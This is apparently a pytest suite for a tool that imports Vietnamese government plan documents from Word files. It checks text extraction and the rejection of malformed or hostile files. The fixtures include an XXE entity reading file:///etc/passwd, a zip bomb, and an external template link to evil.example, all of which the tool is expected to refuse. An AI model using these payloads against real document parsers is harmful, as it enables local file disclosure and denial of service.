"""`vbgen import` reads a Word file's text as Word shows it and finds the blocks however offices lay them
out: hyperlinks, fields (their result), content controls, smart tags, tracked changes, text boxes, soft
breaks; header and signature as a table of several rows, as tab-aligned paragraphs or in a text box;
.docm; other kinds of document refused; hostile files refused in one line; nothing dropped silently."""
from __future__ import annotations

import copy
import io
import warnings
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from vbgen import docxsafe
from vbgen.cli import cli
from vbgen.errors import VbgenWarning
from vbgen.importer import import_source
from vbgen.sources import open_plan

from packages import repack

W = nsdecls("w")


def _header(doc, date="Tp. Hồ Chí Minh, ngày … tháng … năm 2024", number="Số:      /KH-UBND"):
    table = doc.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "ỦY BAN NHÂN DÂN\nQUẬN 3"
    table.cell(0, 1).text = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc"
    table.cell(1, 0).text = number
    table.cell(1, 1).text = date
    for row in table.rows:
        for cell in row.cells:
            for run in cell.paragraphs[0].runs:
                run.bold = "ỦY BAN" in run.text or "CỘNG" in run.text


def _body(doc):
    doc.add_paragraph().add_run("KẾ HOẠCH").bold = True
    doc.add_paragraph().add_run("Phòng, chống thiên tai năm 2025").bold = True
    doc.add_paragraph("Căn cứ Luật Phòng, chống thiên tai năm 2013;")
    doc.add_paragraph("Căn cứ Nghị định số 66/2021/NĐ-CP của Chính phủ ban hành quy định chi tiết;")
    doc.add_paragraph("Ủy ban nhân dân Quận 3 ban hành Kế hoạch như sau:")
    doc.add_paragraph("I. MỤC ĐÍCH, YÊU CẦU")
    doc.add_paragraph("1. Chủ động phòng ngừa, ứng phó kịp thời với thiên tai.")
    doc.add_paragraph("II. TỔ CHỨC THỰC HIỆN")
    doc.add_paragraph("Các phòng, ban triển khai thực hiện nghiêm túc Kế hoạch này./.")


def _signature_table(doc, rows=1):
    if rows == 1:
        table = doc.add_table(rows=1, cols=2)
        table.cell(0, 0).text = "Nơi nhận:\n- UBND Thành phố;\n- Lưu: VT."
        table.cell(0, 1).text = "KT. CHỦ TỊCH\nPHÓ CHỦ TỊCH\n\n\nNguyễn Văn Bình"
    else:  # split across rows, as real offices do
        table = doc.add_table(rows=3, cols=2)
        table.cell(0, 0).text = "Nơi nhận:"
        table.cell(0, 1).text = "KT. CHỦ TỊCH"
        table.cell(1, 0).text = "- UBND Thành phố;\n- Lưu: VT."
        table.cell(1, 1).text = "PHÓ CHỦ TỊCH"
        table.cell(2, 1).text = "Nguyễn Văn Bình"


def plan_docx(path: Path, signature="table", change=None) -> Path:
    doc = Document()
    _header(doc)
    _body(doc)
    if signature == "table":
        _signature_table(doc)
    elif signature == "rows":
        _signature_table(doc, rows=3)
    elif signature == "tabs":
        for text in ("Nơi nhận:\t\t\t\tKT. CHỦ TỊCH", "- UBND Thành phố;\t\t\t\tPHÓ CHỦ TỊCH", "- Lưu: VT.", "",
                     "\t\t\t\t\t\tNguyễn Văn Bình"):
            doc.add_paragraph(text)
    if change:
        change(doc)
    doc.save(path)
    return path


def _add_xml(paragraph, xml: str) -> None:
    paragraph._p.append(parse_xml(xml))


def _paragraph(doc, text):
    return next(p for p in doc.paragraphs if p.text == text)


@pytest.mark.parametrize("signature", ["table", "rows", "tabs"])
def test_header_signature_and_recipients_in_every_layout(tmp_path, signature):
    data = import_source(plan_docx(tmp_path / "kh.docx", signature)).data
    assert data["issuer"]["name"] == "ỦY BAN NHÂN DÂN\nQUẬN 3"
    assert data["place"] == "Tp. Hồ Chí Minh" and data["year"] == 2024  # the draft's blank day and month
    assert data["symbol"] == "KH-UBND"
    assert data["signature"] == {"mode": "KT", "on_behalf_of": "CHỦ TỊCH", "title": "PHÓ CHỦ TỊCH",
                                 "name": "Nguyễn Văn Bình"}
    assert data["recipients"] == ["UBND Thành phố"] and data["archive"] == "VT"
    assert data["basis"] == ["Căn cứ Luật Phòng, chống thiên tai năm 2013;",
                             "Căn cứ Nghị định số 66/2021/NĐ-CP của Chính phủ ban hành quy định chi tiết;"]
    assert data["opening"] == ["Ủy ban nhân dân Quận 3 ban hành Kế hoạch như sau:"]


def test_text_as_word_shows_it(tmp_path):
    def change(doc):
        p = doc.add_paragraph("2. Theo dõi trên ")
        _add_xml(p, f'<w:hyperlink {W} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                    '<w:r><w:t>Cổng thông tin điện tử</w:t></w:r></w:hyperlink>')
        _add_xml(p, f'<w:r {W}><w:t xml:space="preserve"> của Quận </w:t></w:r>')
        _add_xml(p, f'<w:r {W}><w:fldChar w:fldCharType="begin"/></w:r>')
        _add_xml(p, f'<w:r {W}><w:instrText> DOCPROPERTY Quan </w:instrText></w:r>')
        _add_xml(p, f'<w:r {W}><w:fldChar w:fldCharType="separate"/></w:r>')
        _add_xml(p, f'<w:r {W}><w:t>3</w:t></w:r>')
        _add_xml(p, f'<w:r {W}><w:fldChar w:fldCharType="end"/></w:r>')
        _add_xml(p, f'<w:smartTag {W} w:uri="x" w:element="place"><w:r><w:t xml:space="preserve"> hằng </w:t></w:r></w:smartTag>')
        _add_xml(p, f'<w:ins {W} w:id="1" w:author="A"><w:r><w:t>tuần</w:t></w:r></w:ins>')
        _add_xml(p, f'<w:del {W} w:id="2" w:author="A"><w:r><w:delText>tháng</w:delText></w:r></w:del>')
        _add_xml(p, f'<w:sdt {W}><w:sdtContent><w:r><w:t>.</w:t></w:r></w:sdtContent></w:sdt>')
        # a run whose w:rFonts has no w:ascii (LibreOffice writes these on every run): once a crash
        _add_xml(p, f'<w:r {W}><w:rPr><w:rFonts w:eastAsia="SimSun" w:cs="Times New Roman"/></w:rPr>'
                    '<w:t xml:space="preserve"> Cập nhật</w:t></w:r>')
        _add_xml(p, f'<w:r {W}><w:br/><w:t>hằng ngày.</w:t></w:r>')
        _paragraph(doc, "II. TỔ CHỨC THỰC HIỆN")._p.addprevious(p._p)
    data = import_source(plan_docx(tmp_path / "kh.docx", change=change)).data
    items = data["body"][0]["items"]
    texts = [i.get("item") or i.get("section") for i in items]
    assert "Theo dõi trên Cổng thông tin điện tử của Quận 3 hằng tuần. Cập nhật hằng ngày." in texts, texts
    assert "DOCPROPERTY" not in str(data) and "tháng." not in str(texts)


def test_text_box_and_block_content_control_are_read(tmp_path):
    def change(doc):
        body = doc.element.body
        last = _paragraph(doc, "Các phòng, ban triển khai thực hiện nghiêm túc Kế hoạch này./.")
        sdt = parse_xml(f'<w:sdt {W}><w:sdtContent><w:p><w:r><w:t>2. Bảo đảm an toàn cho người dân.</w:t>'
                        '</w:r></w:p></w:sdtContent></w:sdt>')
        _paragraph(doc, "II. TỔ CHỨC THỰC HIỆN")._p.addprevious(sdt)
        box = parse_xml(
            f'<w:p {W} xmlns:v="urn:schemas-microsoft-com:vml"><w:r><w:pict><v:shape><v:textbox><w:txbxContent>'
            '<w:p><w:r><w:t>Giao Phòng Nội vụ theo dõi việc thực hiện.</w:t></w:r></w:p>'
            '</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>')
        last._p.addprevious(box)
        assert body is not None
    data = import_source(plan_docx(tmp_path / "kh.docx", change=change)).data
    assert "Bảo đảm an toàn cho người dân." in str(data["body"][0])
    assert "Giao Phòng Nội vụ theo dõi việc thực hiện." in str(data["body"]) + str(data.get("closing"))


def test_libreoffice_style_runs_and_docm(tmp_path):
    source = plan_docx(tmp_path / "kh.docx")
    docm = tmp_path / "kh.docm"

    def macro_enabled(parts):
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")
        assert b"macroEnabled" in parts["[Content_Types].xml"]
    repack(source, docm, macro_enabled)
    assert import_source(docm).data == import_source(source).data


QD = ["QUYẾT ĐỊNH", "Phê duyệt Điều lệ Hiệp hội", "CHỦ TỊCH ỦY BAN NHÂN DÂN QUẬN 3", "Điều 1. Phê duyệt."]
CV = ["V/v tổ chức hội nghị", "Kính gửi: Các phòng, ban.", "1. Thống nhất tổ chức hội nghị."]


@pytest.mark.parametrize("lines, number, expected", [
    (QD, "Số: 14/QĐ-UBND", "this is a Quyết định (Số: 14/QĐ-UBND, “Phê duyệt Điều lệ Hiệp hội”), not a Kế hoạch"),
    (CV, "Số: 30/UBND-VP", "this is a Công văn (Số: 30/UBND-VP, “V/v tổ chức hội nghị”), not a Kế hoạch"),
    (["BÁO CÁO", "Kết quả công tác quý I", "I. KẾT QUẢ"], "Số: 5/BC-UBND", "this is a Báo cáo (Số: 5/BC-UBND"),
    (["TỜ TRÌNH", "Về việc phê duyệt"], "Số: 7/TTr-UBND", "this is a Tờ trình (Số: 7/TTr-UBND"),
    (["Nội dung không có tên loại."], "Số: 9/TB-UBND", "this is a Thông báo (Số: 9/TB-UBND)"),
])
def test_other_kinds_of_document_get_one_line(tmp_path, lines, number, expected):
    doc = Document()
    _header(doc, number=number)
    for text in lines:
        doc.add_paragraph(text)
    doc.save(tmp_path / "x.docx")
    out = tmp_path / "x.yaml"
    result = CliRunner().invoke(cli, ["import", str(tmp_path / "x.docx"), "-o", str(out)])
    assert result.exit_code == 2 and expected in result.output, result.output
    assert len(result.output.strip().splitlines()) == 1 and not out.exists()


def _bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"<" + b" " * (3 * 2**20))
    return path


def _xxe(src: Path, path: Path) -> Path:
    def with_entity(parts):
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"?>", b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
    return repack(src, path, with_entity)


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("make, words", [
    (lambda t, good: _write(t / "e.docx", b""), "empty"),
    (lambda t, good: _write(t / "t.docx", good.read_bytes()[:3000]), "damaged or truncated"),
    (lambda t, good: _write(t / "n.docx", b"PK\x03\x04garbage"), "damaged or truncated"),
    (lambda t, good: _write(t / "o.doc", docxsafe.OLE_MAGIC + b"\0" * 600), ".doc"),
    (lambda t, good: _write(t / "p.docx", b"%PDF-1.7\n"), "pdf"),
    (lambda t, good: _write(t / "enc.docx", docxsafe.OLE_MAGIC + "EncryptionInfo".encode("utf-16-le")), "password"),
    (lambda t, good: _bomb(t / "bomb.docx"), "zip bomb"),
    (lambda t, good: _xxe(good, t / "xxe.docx"), "dtd"),
])
def test_hostile_files_one_line_exit_2_nothing_written(tmp_path, monkeypatch, make, words):
    monkeypatch.setattr(docxsafe, "MAX_PART_BYTES", 2 * 2**20)
    good = plan_docx(tmp_path / "good.docx")
    source = make(tmp_path, good)
    out = tmp_path / "out.yaml"
    result = CliRunner().invoke(cli, ["import", str(source), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert words in result.output.lower() and not out.exists()


def test_external_relationships_are_harmless(tmp_path):
    source = plan_docx(tmp_path / "kh.docx")
    linked = tmp_path / "linked.docx"

    def external_template(parts):
        rels = "word/_rels/document.xml.rels"
        parts[rels] = parts[rels].replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.'
                                          b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                                          b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    repack(source, linked, external_template)
    assert import_source(linked).data == import_source(source).data


def test_what_cannot_be_placed_is_a_comment_and_a_warning(tmp_path):
    def change(doc):
        table = doc.add_table(rows=3, cols=3)  # a data table after the signature, with no Phụ lục heading
        for r, row in enumerate([["A", "B", "C"], ["Ô một", "Ô hai", "Ô ba"], ["Dòng hai", "x", "y"]]):
            for c, text in enumerate(row):
                table.cell(r, c).text = text
    source = plan_docx(tmp_path / "kh.docx", change=change)
    out = tmp_path / "kh.yaml"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = CliRunner().invoke(cli, ["import", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "# NOT PLACED" in text and "Ô một | Ô hai | Ô ba" in text
    messages = [str(w.message) for w in caught if issubclass(w.category, VbgenWarning)] + [result.output]
    assert any("could not be placed" in m and "NOT PLACED" in m for m in messages)
    assert open_plan(out).title == "Phòng, chống thiên tai năm 2025"  # the comments keep the YAML valid


def test_make_plan_and_parent_accept_a_docx(tmp_path):
    source = plan_docx(tmp_path / "ke-hoach-quan.docx")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        plan = open_plan(source)
    assert plan.title == "Phòng, chống thiên tai năm 2025" and plan.signature.name == "Nguyễn Văn Bình"
    said = " ".join(str(w.message) for w in caught)
    assert "imported on the fly" in said and "issuer.level" in said and "vbgen import" in said
    out = tmp_path / "kh.docx"
    result = CliRunner().invoke(cli, ["make-plan", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "KẾ HOẠCH" in [p.text for p in Document(str(out)).paragraphs]
    assert "not UTF-8" not in result.output

    unit = tmp_path / "phuong.yaml"  # a unit file whose parent is the district's .docx
    unit.write_text("parent: ke-hoach-quan.docx\nissuer:\n  name: \"ỦY BAN NHÂN DÂN\\nPHƯỜNG 1\"\n"
                    "  full_name: Ủy ban nhân dân Phường 1\n  abbreviation: UBND\n  level: commune\n"
                    "  area: Phường 1\nplace: Tp. Hồ Chí Minh\nsignature:\n  title: CHỦ TỊCH\n"
                    "  name: Trần Văn Cường\narchive: VT\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["make-plan", str(unit), "-o", str(tmp_path / "phuong.docx")])
    assert result.exit_code == 0, result.output
    texts = [p.text for p in Document(str(tmp_path / "phuong.docx")).paragraphs]
    assert "Chủ động phòng ngừa, ứng phó kịp thời với thiên tai." in " ".join(texts)


def test_a_docx_missing_required_fields_says_run_import(tmp_path):
    def change(doc):
        for table in doc.tables[1:]:
            table._tbl.getparent().remove(table._tbl)
    source = plan_docx(tmp_path / "kh.docx", change=change)
    result = CliRunner().invoke(cli, ["make-plan", str(source), "-o", str(tmp_path / "o.docx")])
    assert result.exit_code == 2
    line = result.output.strip().splitlines()[-1]
    assert "vbgen import" in line and "signature.title" in line and "signature.name" in line
    assert not (tmp_path / "o.docx").exists()


def test_tab_aligned_header_and_signature_in_a_text_box(tmp_path):
    doc = Document()
    for text in ("ỦY BAN NHÂN DÂN\t\t\tCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
                 "QUẬN 3\t\t\t\tĐộc lập - Tự do - Hạnh phúc",
                 "Số: 12/KH-UBND\t\t\tTp. Hồ Chí Minh, ngày 05 tháng 3 năm 2025"):
        doc.add_paragraph(text)
    _body(doc)
    anchor = doc.add_paragraph("Nơi nhận:")
    anchor._p.append(parse_xml(
        f'<w:r {W} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape><v:textbox><w:txbxContent>'
        '<w:p><w:r><w:t>KT. CHỦ TỊCH</w:t></w:r></w:p><w:p><w:r><w:t>PHÓ CHỦ TỊCH</w:t></w:r></w:p>'
        '<w:p/><w:p><w:r><w:t>Nguyễn Văn Bình</w:t></w:r></w:p>'
        '</w:txbxContent></v:textbox></v:shape></w:pict></w:r>'))
    doc.add_paragraph("- UBND Thành phố;")
    doc.add_paragraph("- Lưu: VT.")
    doc.save(tmp_path / "kh.docx")
    imported = import_source(tmp_path / "kh.docx")
    data = imported.data
    assert data["issuer"]["name"] == "ỦY BAN NHÂN DÂN\nQUẬN 3"
    assert (data["number"], data["symbol"], data["place"], str(data["date"])) == (
        12, "KH-UBND", "Tp. Hồ Chí Minh", "2025-03-05")
    assert data["signature"] == {"mode": "KT", "on_behalf_of": "CHỦ TỊCH", "title": "PHÓ CHỦ TỊCH",
                                 "name": "Nguyễn Văn Bình"}
    assert data["recipients"] == ["UBND Thành phố"] and data["archive"] == "VT"
    assert imported.unplaced == []


def test_signature_table_with_a_row_per_recipient(tmp_path):
    def change(doc):
        names = [f"Sở ngành số {n}" for n in range(1, 13)]
        table = doc.add_table(rows=len(names) + 2, cols=2)
        table.cell(0, 0).text = "Nơi nhận:"
        table.cell(0, 1).text = "TM. ỦY BAN NHÂN DÂN"
        table.cell(1, 1).text = "CHỦ TỊCH"
        for n, name in enumerate(names, start=1):
            table.cell(n, 0).text = f"- {name};"
        table.cell(len(names) + 1, 0).text = "- Lưu: VT."
        table.cell(len(names) + 1, 1).text = "Lê Văn Dũng"
    data = import_source(plan_docx(tmp_path / "kh.docx", signature=None, change=change)).data
    assert data["recipients"] == [f"Sở ngành số {n}" for n in range(1, 13)] and data["archive"] == "VT"
    assert data["signature"] == {"collective": "ỦY BAN NHÂN DÂN", "title": "CHỦ TỊCH", "name": "Lê Văn Dũng"}
    assert "Nơi nhận" not in str(data["body"]) and data["closing"].endswith("./.")


def test_footnotes_are_kept_numbered_as_word_prints_them(tmp_path):
    def change(doc):
        p = _paragraph(doc, "1. Chủ động phòng ngừa, ứng phó kịp thời với thiên tai.")
        _add_xml(p, f'<w:r {W}><w:footnoteReference w:id="7"/></w:r>')
    source = plan_docx(tmp_path / "kh.docx", change=change)
    notes = tmp_path / "notes.docx"
    footnotes = (f'<w:footnotes {W}><w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
                 '</w:footnote><w:footnote w:id="7"><w:p><w:r><w:footnoteRef/></w:r><w:r><w:t xml:space="preserve">'
                 ' Theo Luật Phòng, chống thiên tai.</w:t></w:r></w:p></w:footnote></w:footnotes>').encode()

    def with_footnotes(parts):
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>')
        rels = "word/_rels/document.xml.rels"
        parts[rels] = parts[rels].replace(b"</Relationships>", b'<Relationship Id="rIdF" Type="http://schemas.'
                                          b'openxmlformats.org/officeDocument/2006/relationships/footnotes" '
                                          b'Target="footnotes.xml"/></Relationships>')
        parts["word/footnotes.xml"] = footnotes
    repack(source, notes, with_footnotes)
    imported = import_source(notes)
    assert imported.data["body"][-1]["text"] == "[1] Theo Luật Phòng, chống thiên tai."
    assert imported.unplaced == []
